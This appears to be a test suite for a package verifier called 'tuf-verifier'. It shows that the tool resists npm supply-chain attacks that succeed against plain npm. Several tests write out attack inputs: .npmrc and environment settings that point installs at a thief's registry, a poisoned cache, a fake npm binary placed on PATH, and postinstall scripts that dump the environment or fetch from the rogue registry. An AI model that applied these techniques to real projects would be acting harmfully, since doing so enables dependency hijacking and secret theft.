/** Ways around the registry: each one fools plain npm, and none of them `tuf-verifier ci`. */

import assert from "node:assert/strict";
import { chmodSync, mkdirSync, readdirSync, statSync, symlinkSync } from "node:fs";
import { test, type TestContext } from "node:test";
import { Desk, pinned, type Variables } from "./world/desk.js";
import { withEachNpm } from "./world/npms.js";
import { integrity, type Package, tarball } from "./world/package.js";
import { PlainRegistry } from "./world/plain-registry.js";
import { Published } from "./world/published.js";
import { EVIL, GREET, HONEST, WORDS } from "./world/words.js";

/** A project whose lock file does not say which bytes, so that plain npm takes what it gets; and a registry of a thief. */
async function victim(context: TestContext, lock: (one: Package) => Readonly<Record<string, unknown>> = () => ({})): Promise<{
  readonly desk: Desk;
  readonly thief: PlainRegistry;
}> {
  const thief = await PlainRegistry.serving(EVIL);
  context.after(() => thief.stop());
  const desk = new Desk(context);
  desk.trust(new Published(HONEST));
  desk.project(HONEST, lock);
  return { desk, thief };
}

/** Plain npm installs what the thief has; afterwards `tuf-verifier ci` installs what is signed, and asks the thief for nothing. */
async function foolsPlainNpmAlone(desk: Desk, thief: PlainRegistry, variables: Variables = {}): Promise<void> {
  (await desk.npm(["ci"], variables)).endsWith(0);
  assert.equal(desk.installed("words"), "owned");
  assert.equal(desk.installed("@scope/greet"), "owned");
  const asked = thief.asked.length;
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
  assert.equal(desk.installed("@scope/greet"), "greetings");
  assert.equal(thief.asked.length, asked, "the thief was asked");
}

for (const place of ["project", "home"] as const) {
  test(`a registry in the .npmrc of the ${place}`, async (context) => {
    const { desk, thief } = await victim(context);
    desk.write(`${place}/.npmrc`, `registry=${thief.url}\n@scope:registry=${thief.url}\n`);
    await foolsPlainNpmAlone(desk, thief);
  });
}

test("a registry of the environment", async (context) => {
  const { desk, thief } = await victim(context);
  await foolsPlainNpmAlone(desk, thief, { NPM_CONFIG_REGISTRY: thief.url, "npm_config_@scope:registry": thief.url });
});

test("a proxy in .npmrc, and hosts that shall not be asked through one", async (context) => {
  const { desk, thief } = await victim(context);
  desk.write("project/.npmrc", `registry=http://registry.example/\nproxy=${thief.url}\nhttps-proxy=${thief.url}\n`);
  await foolsPlainNpmAlone(desk, thief);
  desk.write("project/.npmrc", `registry=${thief.url}\nnoproxy=127.0.0.1\nreplace-registry-host=never\n`);
  await foolsPlainNpmAlone(desk, thief);
});

test("a proxy of the environment", async (context) => {
  const { desk, thief } = await victim(context);
  desk.write("project/.npmrc", "registry=http://registry.example/\n");
  await foolsPlainNpmAlone(desk, thief, { HTTP_PROXY: thief.url, http_proxy: thief.url, no_proxy: "" });
});

test("addresses in the lock file that lead elsewhere", async (context) => {
  const { desk, thief } = await victim(context);
  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
  await foolsPlainNpmAlone(desk, thief);
});

test("addresses in the lock file, and a registry that shall not replace them", async (context) => {
  const { desk, thief } = await victim(context);
  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
  desk.write("project/.npmrc", "replace-registry-host=never\n");
  await foolsPlainNpmAlone(desk, thief);
});

test("npm's cache, poisoned", async (context) => {
  const { desk, thief } = await victim(context);
  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
  const cache = { npm_config_cache: desk.path("cache") };
  (await desk.npm(["ci"], cache)).endsWith(0);
  await thief.stop();

  // From here on the thief's bytes are in the cache alone, under the keys under which npm looks for them.
  for (const offline of ["--offline", "--prefer-offline"]) {
    (await desk.npm(["ci", offline], cache)).endsWith(0);
    assert.equal(desk.installed("words"), "owned", offline);
  }
  for (const more of [{}, { npm_config_offline: "true" }, { npm_config_prefer_offline: "true" }]) {
    (await desk.tuf(["ci"], { ...cache, ...more })).endsWith(0);
    assert.equal(desk.installed("words"), "hello");
    assert.equal(desk.installed("@scope/greet"), "greetings");
  }
  desk.write("project/.npmrc", `cache=${desk.path("cache")}\noffline=true\n`);
  (await desk.tuf(["ci"])).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
});

test("npm's cache with the right bytes, and with others in their place", async (context) => {
  const honest = await PlainRegistry.serving(HONEST);
  context.after(() => honest.stop());
  const desk = new Desk(context);
  desk.trust(new Published(HONEST));
  desk.project(HONEST, (one) => ({ ...pinned(one), resolved: honest.address(one) }));
  const cache = { npm_config_cache: desk.path("cache") };
  const registry = { npm_config_registry: honest.url, "npm_config_@scope:registry": honest.url };
  (await desk.npm(["ci"], { ...cache, ...registry })).endsWith(0);

  // Every package is handed out in this run: also one that npm would find.
  (await desk.tuf(["ci"], cache)).endsWith(0);
  for (const file of readdirSync(desk.path("cache/_cacache/content-v2"), { recursive: true, encoding: "utf8" })) {
    const path = `cache/_cacache/content-v2/${file}`;
    if (statSync(desk.path(path)).isFile()) {
      desk.write(path, tarball(EVIL[0] ?? WORDS));
    }
  }
  (await desk.tuf(["ci"], cache)).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
  assert.equal(desk.installed("@scope/greet"), "greetings");
});

test("packages that were installed before", async (context) => {
  const { desk, thief } = await victim(context);
  desk.write("project/.npmrc", `registry=${thief.url}\n@scope:registry=${thief.url}\n`);
  (await desk.npm(["ci"])).endsWith(0);
  desk.write("project/node_modules/extra/index.js", 'module.exports = "owned";');
  (await desk.tuf(["ci"])).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
  assert.equal(desk.installed("extra"), undefined);
});

test("an npm that a package put on the path", async (context) => {
  const { desk } = await victim(context);
  const program = `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(desk.path("owned"))}, "owned");\n`;
  desk.write("project/node_modules/thief/npm-cli.js", program);
  chmodSync(desk.path("project/node_modules/thief/npm-cli.js"), 0o755);
  mkdirSync(desk.path("project/node_modules/.bin"));
  symlinkSync("../thief/npm-cli.js", desk.path("project/node_modules/.bin/npm"));
  const variables = { PATH: `${desk.path("project/node_modules/.bin")}:${process.env["PATH"] ?? ""}` };
  (await desk.npm(["ci"], variables)).endsWith(0);
  assert.ok(desk.has("owned"), "plain npm is the package's");
  desk.write("owned", "");
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.equal(desk.read("owned"), "");
  assert.equal(desk.installed("words"), "hello");
});

test("a shrinkwrap file, which npm prefers to the lock file", async (context) => {
  const { desk, thief } = await victim(context);
  const entry = (one: Package): object => ({ version: one.version, dependencies: one.dependencies, integrity: integrity(tarball(one)) });
  const [evilWords = WORDS, evilGreet = GREET] = EVIL;
  const own = { name: "project", version: "1.0.0", dependencies: { words: "1.1.0", "@scope/greet": "2.0.0" } };
  desk.writeLock(
    { "": own, "node_modules/words": entry(evilWords), "node_modules/@scope/greet": entry(evilGreet) },
    "npm-shrinkwrap.json",
  );
  const variables = { npm_config_registry: thief.url };
  (await desk.npm(["ci"], variables)).endsWith(0);
  assert.equal(desk.installed("words"), "owned");
  (await desk.tuf(["ci"])).endsWith(40).fails("wrong software: the lock file demands other bytes of words@1.1.0", "");
});

test("a run that installs nothing", async (context) => {
  const { desk } = await victim(context);
  desk.write("project/.npmrc", "dry-run=true\npackage-lock-only=true\n");
  (await desk.npm(["ci"])).endsWith(0);
  assert.equal(desk.installed("words"), undefined);
  (await desk.tuf(["ci"])).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
});

withEachNpm("places to write that the .npmrc of a project names", async (desk) => {
  desk.trust(new Published([WORDS]));
  desk.project([WORDS]);
  desk.write("project/.npmrc", "timing=true\nlogs-max=5\nlogs-dir=../logs/${SECRET}\ncache=../cache\n");
  const old = "2020-01-01T00_00_00_000Z-debug-0.log";
  desk.write(`logs/word/${old}`, "");
  (await desk.tuf(["ci"], { SECRET: "word" })).endsWith(0);
  assert.deepEqual([readdirSync(desk.path("logs/word")), desk.has("cache")], [[old], false]);
  await desk.npm(["ls"], { SECRET: "word" });
  assert.ok(readdirSync(desk.path("logs/word")).length > 1, "plain npm writes there");
});

/** A package that says when its script runs. */
const NOISY: Package = { name: "noisy", version: "1.0.0", word: "", fields: { scripts: { postinstall: 'echo ran >> "$SAID"' } } };
/** Ways of a project to have scripts run that the user does not want. */
const UNWANTED: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ["ignore-scripts in .npmrc", { ".npmrc": "ignore-scripts=false\n" }],
  ["a userconfig in .npmrc", { ".npmrc": "userconfig=./other\n", other: "" }],
];

for (const [how, files] of UNWANTED) {
  withEachNpm(`scripts that the user ignores, and a project runs by ${how}`, async (desk) => {
    desk.trust(new Published([NOISY]));
    desk.project([NOISY]);
    const own = { name: "project", version: "1.0.0", dependencies: { noisy: "1.0.0" }, scripts: { prepare: 'echo own >> "$SAID"' } };
    desk.write("project/package.json", JSON.stringify(own));
    for (const [name, content] of Object.entries(files)) {
      desk.write(`project/${name}`, content);
    }
    // As npm finds its files by itself, where no variable names them.
    const variables = { SAID: desk.path("said"), npm_config_userconfig: "", npm_config_globalconfig: "" };
    (await desk.tuf(["ci"], variables)).endsWith(0);
    assert.equal(desk.read("said"), "ran\nown\n");
    desk.remove("said");
    desk.write("home/.npmrc", "ignore-scripts=true\n");
    (await desk.tuf(["ci"], variables)).endsWith(0);
    assert.ok(!desk.has("said"), "a script ran");
  });
}

withEachNpm("scripts that the machine ignores", async (desk) => {
  desk.trust(new Published([NOISY]));
  desk.project([NOISY]);
  desk.write("project/.npmrc", "ignore-scripts=false\n");
  desk.write("project/etc/npmrc", "ignore-scripts=false\n");
  desk.write("home/etc/npmrc", "ignore-scripts=true\n");
  // The prefix of the machine decides where its settings are.
  const variables = { SAID: desk.path("said"), npm_config_prefix: desk.path("home"), npm_config_globalconfig: "" };
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.ok(!desk.has("said"), "a script ran");
});

test("an npm that a script of a package starts", async (context) => {
  // It asks for a package of the registry that it finds, and for one of the thief's by name.
  const script = `
    npm install left@1.0.0 --no-save --prefix="$INIT_CWD/found" && echo owned > "$INIT_CWD/found-owned"
    npm install left@1.0.0 --no-save --prefix="$INIT_CWD/named" --registry="$THIEF" && echo owned > "$INIT_CWD/named-owned"
    true`;
  const noisy: Package = { ...WORDS, fields: { scripts: { postinstall: script }, hasInstallScript: true } };
  const thief = await PlainRegistry.serving([noisy, { name: "left", version: "1.0.0", word: "owned" }]);
  context.after(() => thief.stop());
  const desk = new Desk(context);
  desk.trust(new Published([noisy]));
  desk.project([noisy]);
  desk.write("project/.npmrc", `registry=${thief.url}\nnoproxy=127.0.0.1\n`);
  const variables = { THIEF: thief.url, npm_config_dangerously_allow_all_scripts: "true" };
  (await desk.npm(["ci"], variables)).endsWith(0);
  for (const name of ["found-owned", "named-owned"]) {
    assert.equal(desk.read(`project/${name}`), "owned\n");
    desk.write(`project/${name}`, "");
  }
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.deepEqual(["found-owned", "named-owned"].map((name) => desk.read(`project/${name}`)), ["", ""]);
});

test("the token of the registry, and the passphrase of a publisher", async (context) => {
  const greet: Package = { name: "@my_scope/greet", version: "1.0.0", word: "greetings", fields: { scripts: { postinstall: "env > $SEEN" } } };
  const desk = new Desk(context);
  desk.trust(new Published([greet]));
  desk.project([greet]);
  const variables = { SEEN: desk.path("script"), TUFREPO_PASSPHRASE: "secret", npm_config_dangerously_allow_all_scripts: "true" };
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.match(desk.read("script"), /npm_config_registry=/);
  assert.doesNotMatch(desk.read("script"), /authToken|TUFREPO_PASSPHRASE/);

  // Every user can read the arguments of a program.
  const program = `
    const { writeFileSync, readFileSync } = require("fs");
    const seen = [process.argv.join(" "), process.platform === "linux" ? readFileSync("/proc/self/cmdline", "utf8") : ""];
    writeFileSync(process.env.SEEN, JSON.stringify({ seen, environment: process.env }));`;
  desk.write("other/npm-cli.js", program);
  symlinkSync("npm-cli.js", desk.path("other/npm"));
  await desk.tuf(["ci"], { ...variables, PATH: `${desk.path("other")}:${process.env["PATH"] ?? ""}` });
  const { seen, environment } = JSON.parse(desk.read("script")) as {
    readonly seen: readonly string[];
    readonly environment: Readonly<Record<string, string>>;
  };
  const token = Object.entries(environment).find(([name]) => name.endsWith(":_authToken"))?.[1] ?? "";
  assert.ok(token.length >= 32);
  assert.match(seen[0] ?? "", /--@my_scope:registry=http:/);
  assert.ok(!seen.join(" ").includes(token), "the token is an argument");
  assert.equal(environment["TUFREPO_PASSPHRASE"], undefined);
});

test("a scope that no variable can name", async (context) => {
  const greet: Package = { name: "@my_scope/greet", version: "1.0.0", word: "greetings" };
  const thief = await PlainRegistry.serving([{ ...greet, word: "owned" }]);
  context.after(() => thief.stop());
  const desk = new Desk(context);
  desk.trust(new Published([greet]));
  desk.project([greet], () => ({}));
  desk.write("project/.npmrc", `@my_scope:registry=${thief.url}\n`);
  (await desk.npm(["ci"])).endsWith(0);
  assert.equal(desk.installed("@my_scope/greet"), "owned");
  (await desk.tuf(["ci"])).endsWith(0);
  assert.equal(desk.installed("@my_scope/greet"), "greetings");
});

test("a project around the project, which npm goes up to", async (context) => {
  const { desk, thief } = await victim(context);
  const own = { name: "outer", version: "1.0.0", workspaces: ["project"] };
  const [evil = WORDS] = EVIL;
  desk.write("package.json", JSON.stringify(own));
  desk.writeLock(
    {
      "": own,
      "node_modules/words": { version: evil.version },
      "node_modules/@scope/greet": { version: GREET.version, dependencies: GREET.dependencies },
      "node_modules/project": { link: true, resolved: "project" },
      project: { version: "1.0.0", dependencies: { words: "1.1.0", "@scope/greet": "2.0.0" } },
    },
    "../package-lock.json",
  );
  const variables = { npm_config_registry: thief.url, "npm_config_@scope:registry": thief.url };
  (await desk.npm(["ci"], variables)).endsWith(0);
  assert.match(desk.read("node_modules/words/index.js"), /owned/);
  (await desk.tuf(["ci"], variables)).endsWith(0);
  assert.equal(desk.installed("words"), "hello");
});
